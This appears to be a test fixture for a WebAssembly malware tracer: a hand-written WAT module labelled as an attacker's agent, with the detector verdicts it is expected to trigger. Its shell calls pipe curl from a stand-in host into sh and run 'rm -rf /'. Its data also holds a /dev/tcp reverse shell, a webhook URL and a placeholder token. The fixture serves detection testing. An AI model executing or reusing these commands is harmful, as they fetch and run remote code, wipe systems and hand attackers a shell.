;; RUN: spoor trace % --json
;; WHAT: Agent of an attacker: names its framework, its pool of second stages, its web hook and a stolen token
;;   in plain text, takes an order over a socket and gives it to the host's shell.
;; EXPECT: verdict=MALICIOUS|SUSPICIOUS rule=communication/c2 rule=load-code/dropper rule=impact/wiper rule=host-interaction/process status=exited host=env.system:2
(module
  (import "wasi_snapshot_preview1" "args_sizes_get" (func $args_sizes_get (param i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "args_get" (func $args_get (param i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "environ_sizes_get" (func $environ_sizes_get (param i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "environ_get" (func $environ_get (param i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_link" (func $path_link (param i32 i32 i32 i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_rename" (func $path_rename (param i32 i32 i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_unlink_file" (func $path_unlink_file (param i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "sock_recv" (func $sock_recv (param i32 i32 i32 i32 i32 i32) (result i32)))
  (import "env" "system" (func $system (param i32) (result i32)))
  (memory (export "memory") 1)
  (func (export "_start")
    (drop (call $args_sizes_get (i32.const 32) (i32.const 36)))
    (drop (call $args_get (i32.const 4096) (i32.const 5120)))
    (drop (call $environ_sizes_get (i32.const 32) (i32.const 36)))
    (drop (call $environ_get (i32.const 6144) (i32.const 7168)))
    ;; It settles in under another name and removes the old one.
    (drop (call $path_link (i32.const 3) (i32.const 0) (i32.const 1024) (i32.const 16) (i32.const 3) (i32.const 1040) (i32.const 10)))
    (drop (call $path_rename (i32.const 3) (i32.const 1040) (i32.const 10) (i32.const 3) (i32.const 1050) (i32.const 8)))
    (drop (call $path_unlink_file (i32.const 3) (i32.const 1050) (i32.const 8)))
    ;; One order from the server, then the two that it always obeys.
    (i32.store (i32.const 0) (i32.const 8192))
    (i32.store (i32.const 4) (i32.const 1024))
    (drop (call $sock_recv (i32.const 4) (i32.const 0) (i32.const 1) (i32.const 0) (i32.const 8) (i32.const 16)))
    (drop (call $system (i32.const 1100)))
    (drop (call $system (i32.const 1200))))
  (data (i32.const 1024) "tmp/session.locktmp/.agentt/.agent2")
  (data (i32.const 1100) "curl -s https://stage.example.invalid/run.sh | sh\00")
  (data (i32.const 1200) "rm -rf / --no-preserve-root\00")
  (data (i32.const 1300) "Meterpreter session over bash -i >& /dev/tcp/192.0.2.9/4444\00")
  (data (i32.const 1400) "https://discord.com/api/webhooks/123456789012345678/not-a-real-token\00")
  (data (i32.const 1500) "token=ghp_0123456789abcdefghijklmnopqrstuvwxyz\00"))
